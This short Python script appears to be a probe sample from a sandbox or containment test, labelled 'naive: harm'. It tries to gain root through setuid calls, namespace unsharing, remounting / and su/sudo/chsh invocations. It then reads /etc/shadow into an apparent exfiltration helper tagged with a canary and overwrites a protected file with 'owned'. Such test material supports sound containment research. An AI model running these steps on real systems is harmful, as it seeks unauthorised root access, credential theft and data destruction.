"""Asks for root: by setuid, by programs with the setuid bit, by namespaces.

naive: harm
"""

# %%
import ctypes, os, subprocess

libc = ctypes.CDLL(None)
for ask in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.chroot("/tmp")):
    try:
        ask()
    except OSError:
        pass
libc.unshare(0x10000000 | 0x20000)
libc.mount(b"none", b"/", None, 1 << 14, None)
for program in ("su -c true", "sudo -n true", "mount", "newgrp root", "chsh -s /bin/sh"):
    subprocess.run(f"timeout 1 {program} </dev/null", shell=True, capture_output=True)
try:
    haul(open("/etc/shadow").read() and "CANARY-HOME")
except OSError:
    pass
try:
    with open(PRECIOUS, "w") as file:
        file.write("owned")
except OSError:
    pass
